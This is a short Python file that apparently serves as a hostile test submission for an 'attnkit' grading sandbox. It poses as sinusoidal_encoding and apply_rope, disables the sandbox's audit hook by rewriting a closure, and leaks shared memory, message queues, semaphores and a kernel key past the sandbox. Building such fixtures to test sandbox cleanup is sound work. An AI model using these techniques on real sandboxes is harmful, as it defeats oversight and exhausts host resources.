import gc as _gc
import sys as _sys
import types as _types

IPC_PRIVATE, IPC_CREAT = 0, 0o1000
SYS_ADD_KEY = 248  # x86_64


def _switch_off_the_audit_hook():
    for hook in [f for f in _gc.get_objects() if type(f) is _types.FunctionType and f.__name__ == "hook"]:
        for name, cell in zip(hook.__code__.co_freevars, hook.__closure__ or ()):
            if name == "refuse":
                cell.cell_contents = lambda what: None


def _hoard(*args, **kwargs):
    _switch_off_the_audit_hook()
    ctypes = _sys.modules["attnkit_sandbox_landlock"].ctypes  # loaded by the sandbox before any student code
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    kept = []
    for _ in range(4):
        segment = libc.shmget(IPC_PRIVATE, 8 << 20, IPC_CREAT | 0o600)
        if segment >= 0:
            address = libc.shmat(segment, None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                ctypes.memset(address, 1, 8 << 20)
                libc.shmdt(ctypes.c_void_p(address))
            kept.append(f"shm {segment}")
    for name, made in (("msg", libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)),
                       ("sem", libc.semget(IPC_PRIVATE, 4, IPC_CREAT | 0o600)),
                       ("key", libc.syscall(SYS_ADD_KEY, b"user", b"attnkit-hostile", b"x", 1, -2))):
        if made >= 0:
            kept.append(f"{name} {made}")
    raise RuntimeError(f"kept: {kept}")


sinusoidal_encoding = apply_rope = _hoard
